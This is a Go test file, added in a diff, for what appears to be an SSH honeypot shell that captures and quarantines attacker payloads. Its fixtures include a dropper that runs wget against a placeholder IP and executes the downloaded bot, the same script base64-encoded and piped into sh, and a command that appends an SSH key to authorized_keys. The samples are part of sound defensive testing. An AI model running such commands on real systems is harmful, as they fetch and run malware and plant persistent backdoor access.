@@ -0,0 +1,73 @@
+package main
+
+import (
+	"encoding/base64"
+	"strings"
+	"testing"
+
+	"github.com/honeystats/ssh/quarantine"
+)
+
+func TestCapturePayloadsInCommand(t *testing.T) {
+	script := "#!/bin/sh\ncd /tmp; wget http://198.51.100.1/bot; chmod +x bot; ./bot\n"
+	encoded := base64.StdEncoding.EncodeToString([]byte(script))
+	tests := []struct {
+		name  string
+		cmd   string
+		wants []string
+	}{
+		{"base64 blob", "echo " + encoded + " | base64 -d | sh", []string{script}},
+		{"unpadded base64", "echo " + strings.TrimRight(encoded, "=") + " | base64 -d", []string{script}},
+		{"sha256 hash", "echo 9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08 | sha256sum -c", nil},
+		{"md5 hash", "grep -r d41d8cd98f00b204e9800998ecf8427e /var/log", nil},
+		{"short base64", "echo aGVsbG8gd29ybGQ= | base64 -d", nil},
+		{"echo into a file", "echo 'ssh-rsa AAAA key' >> ~/.ssh/authorized_keys", nil},
+	}
+	for _, test := range tests {
+		hashes := capturePayloadsInCommand(newTestContext("root", "session"), test.cmd)
+		if len(hashes) != len(test.wants) {
+			t.Errorf("%s: captured %d payloads, want %d", test.name, len(hashes), len(test.wants))
+			continue
+		}
+		for i, want := range test.wants {
+			if hashes[i] != quarantine.Hash([]byte(want)) {
+				t.Errorf("%s: captured %s, want %q", test.name, hashes[i], want)
+			}
+		}
+	}
+}
+
+// The shell quarantines exactly what commands write through > and >>.
+func TestCaptureRedirectedOutput(t *testing.T) {
+	tests := []struct {
+		name  string
+		line  string
+		wants []string
+	}{
+		{"echo into a file", "echo 'ssh-rsa AAAA key' >> /a/authorized_keys", []string{"ssh-rsa AAAA key\n"}},
+		{"echo -n", "echo -n x > /a/y", []string{"x"}},
+		{"expanded", "X='a  b'; echo \"$X\" > /a/y", []string{"a  b\n"}},
+		{"escapes", "echo -e 'a\\tb' > /a/y", []string{"a\tb\n"}},
+		{"each redirection", "echo a > /a/y; echo b >> /a/y", []string{"a\n", "b\n"}},
+		{"from a pipeline", "echo secret | cat > /a/y", []string{"secret\n"}},
+		{"in a subshell", "(cd /a; echo z > y)", []string{"z\n"}},
+		{"stderr", "cat /nonexistent 2> /a/err", []string{"cat: /nonexistent: No such file or directory\n"}},
+		{"empty echo", "echo > /a/y", nil},
+		{"to /dev/null", "echo a > /dev/null", nil},
+		{"not redirected", "echo a | cat", nil},
+	}
+	for _, test := range tests {
+		sh := newShell(newTestContext("root", "session"), newTestState(), false)
+		var out strings.Builder
+		sh.Run(test.line, &out, &out)
+		if len(sh.payloads) != len(test.wants) {
+			t.Errorf("%s: captured %d payloads, want %d", test.name, len(sh.payloads), len(test.wants))
+			continue
+		}
+		for i, want := range test.wants {
+			if sh.payloads[i] != quarantine.Hash([]byte(want)) {
+				t.Errorf("%s: captured %s, want %q", test.name, sh.payloads[i], want)
+			}
+		}
+	}
+}